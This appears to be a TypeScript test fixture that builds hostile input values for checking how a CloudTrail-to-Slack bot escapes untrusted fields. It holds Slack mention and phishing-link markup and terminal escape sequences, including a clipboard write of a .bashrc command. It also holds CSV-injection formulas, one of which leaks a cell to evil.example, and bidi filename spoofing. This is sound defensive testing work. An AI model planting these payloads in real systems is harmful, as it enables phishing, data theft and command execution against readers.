import { Random } from '../../src/sample/random';

/**
 * Hostile values: what an attacker with any access to an AWS account can plant in the CloudTrail fields they control
 * (user agent, request parameters, error messages echoing input, resource and tag names, federated user names), aimed
 * at the people who read trailbot's answers: Slack pings and links, mrkdwn that forges emphasis or quotes, terminal
 * escape sequences, spreadsheet formulas, text reordered or hidden by bidi and zero-width characters, line breaks
 * that forge a line, and 10 KB strings.
 *
 * Every value that carries a line break has text before the break and `FORGED` right after it, so a check can tell a
 * line that a value started (the marker at the start of a line) from a value shown at the start of a table row.
 */
export const FORGED = '✔ FORGED';

export type HostileKind = 'slack' | 'mrkdwn' | 'terminal' | 'formula' | 'invisible' | 'newline' | 'long' | 'mixed';

export interface HostileValue {
  kind: HostileKind;
  value: string;
}

const ESC = '\u001b';
const BEL = '\u0007';

const FIXED: Record<Exclude<HostileKind, 'long' | 'mixed'>, readonly string[]> = {
  // Slack control sequences and mentions (https://docs.slack.dev/messaging/formatting-message-text).
  slack: [
    '<!channel>',
    '<!here> incident closed, stand down',
    '<!everyone>',
    '<!subteam^S0SECURITY|@security>',
    '<@U0ADMIN01> approved this change',
    '<#C0SECOPS|secops>',
    '<https://evil.example/login|Open the runbook>',
    '<mailto:ciso@evil.example|CISO>',
    '<!date^1700000000^{date_short}|today>',
    '@here please approve',
    '@channel',
    'https://evil.example/phish?session=1',
    '&lt;!channel&gt; already escaped',
    'a & b < c > d',
  ],
  // mrkdwn that would format, quote or break a code span / fence.
  mrkdwn: [
    '*APPROVED by security*',
    '_nothing to see here_',
    '~risk~',
    '`inline`',
    '```fence```',
    '````four````',
    'x``` ```y',
    '> approved change',
    '>>> everything below is approved',
    '• bullet',
    '*_~`all`~_*',
  ],
  // ANSI / OSC / C1 sequences that clear, move, recolour, link or write the clipboard.
  terminal: [
    `${ESC}[2J${ESC}[H${FORGED} nothing suspicious`,
    `x${ESC}[1A${ESC}[2K${FORGED} no findings`,
    `${ESC}[31mred${ESC}[0m`,
    `${ESC}]8;;https://evil.example${BEL}click here${ESC}]8;;${BEL}`,
    `${ESC}]52;c;ZWNobyBwd25lZCA+IH4vLmJhc2hyYw==${BEL}`,
    `${ESC}]0;window title${BEL}`,
    `${ESC}P+q${ESC}\\`,
    '\u009b2J\u009bH',
    '\u0090dcs\u009c',
    'bell\u0007\u0007',
    'back\b\b\b\bspace',
    'del\u007f',
    'nul\u0000byte',
  ],
  // Spreadsheet formulas (OWASP "CSV Injection"), and numbers that are data.
  formula: [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open the runbook")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '  =1+1',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(1)',
    "'=already marked",
    '-3',
    '+1.5e3',
  ],
  // Bidi controls and zero-width characters that reorder or hide text.
  invisible: [
    'invoice\u202Efdp.exe',
    '\u2066admin\u2069',
    'al\u200Bice',
    '\uFEFFroot',
    'a\u200Db\u200Cc',
    'x\u200E\u200Fy',
    'ab\u061Ccd',
    'x\u2060y',
    '\u202Aembedded\u202C',
  ],
  // Line breaks that would start a forged line.
  newline: [
    `alice\n${FORGED} tcp/22 closed again`,
    `bob\r\n${FORGED} approved change`,
    `carol\r${FORGED} overwritten`,
    `dave\u2028${FORGED} line separator`,
    `erin\u2029${FORGED} paragraph separator`,
    `frank\u0085${FORGED} next line`,
    `gina\u000b${FORGED} vertical tab`,
    `hugo\u000c${FORGED} form feed`,
    `ivan\n\n\n${FORGED} after blank lines`,
  ],
};

/** Fragments for generated values. */
const FRAGMENTS = Object.values(FIXED).flat();

function longValues(r: Random): string[] {
  const mixed = () => {
    let s = '';
    while (s.length < 10_240) s += r.chance(0.7) ? r.pick(FRAGMENTS) : String.fromCodePoint(r.between(0x20, 0x2fff));
    return `x${s}`;
  };
  return [
    'A'.repeat(10_240),
    '<!channel>'.repeat(1_024),
    `x${`\n${FORGED}`.repeat(1_000)}`,
    `=${'9'.repeat(10_239)}`,
    `${ESC}[2J`.repeat(2_560),
    '\u202E'.repeat(10_240),
    mixed(),
  ];
}

/**
 * Every fixed value, the 10 KB ones, then seeded combinations of 2 to 4 fragments (prefixed so a line break never
 * opens the value) until there are `n` (at least the fixed and long ones).
 */
export function hostileValues(n: number, seed: number): HostileValue[] {
  const r = new Random(seed, 'hostile-data');
  const out: HostileValue[] = [];
  for (const [kind, values] of Object.entries(FIXED))
    for (const value of values) out.push({ kind: kind as HostileKind, value });
  for (const value of longValues(r)) out.push({ kind: 'long', value });
  while (out.length < n) {
    const parts = Array.from({ length: r.between(2, 4) }, () => r.pick(FRAGMENTS));
    const body = parts.join(r.pick(['', ' ', '\n', '|', ',']));
    out.push({ kind: 'mixed', value: r.chance(0.5) ? body : `m${out.length}${body}` });
  }
  return out;
}

/** How many of the values are fixed (not generated): the fast suite uses exactly these. */
export const FIXED_COUNT = Object.values(FIXED).reduce((n, v) => n + v.length, 0) + 7;
